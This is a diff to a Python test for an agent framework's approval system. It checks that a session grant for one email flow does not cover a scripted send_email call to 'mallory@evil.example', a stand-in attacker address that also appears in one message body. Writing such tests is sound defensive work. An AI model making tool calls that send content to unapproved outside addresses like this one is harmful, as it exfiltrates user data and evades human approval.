@@ -196,10 +196,9 @@ async def test_what_is_stored_keeps_its_label() -> None:
 async def test_a_grant_for_a_tool_covers_no_flow_and_one_for_a_flow_no_other(tmp_path: Any) -> None:
     library = ToolLibrary([fetch_page, send_email])
     agent = Agent(name="assistant", instruction="Help.", tools=library.specifications())
-    quoted, more = (
-        call("send_email", to="anna@corp.example", subject="Hi", body=text) for text in ("News", "Vault care")
-    )
-    other = call("send_email", to="eve@corp.example", subject="Hi", body="Accountant news")
+    quoted = call("send_email", to="anna@corp.example", subject="Hi", body="News")
+    more = call("send_email", to="anna@corp.example", subject="Hi", body="Vault care, mallory@evil.example")
+    other = call("send_email", to="mallory@evil.example", subject="Hi", body="News")
     model = ScriptedModel([READ, quoted, more, other, say("Done.")])
     async with Journeyman(store=f"sqlite:///{tmp_path / 'j.db'}", library=library, model=model) as app:
         await app.approvals.grant("s", "send_email", by="ada")
@@ -210,7 +209,7 @@ async def test_a_grant_for_a_tool_covers_no_flow_and_one_for_a_flow_no_other(tmp
         await app.approvals.approve(question.id, by="ada", for_session=True)
         await handle.wait()
         [question] = await app.approvals.pending()
-        assert question.arguments["to"] == "eve@corp.example"
+        assert question.arguments["to"] == "mallory@evil.example"
 
 
 @pytest.mark.parametrize(
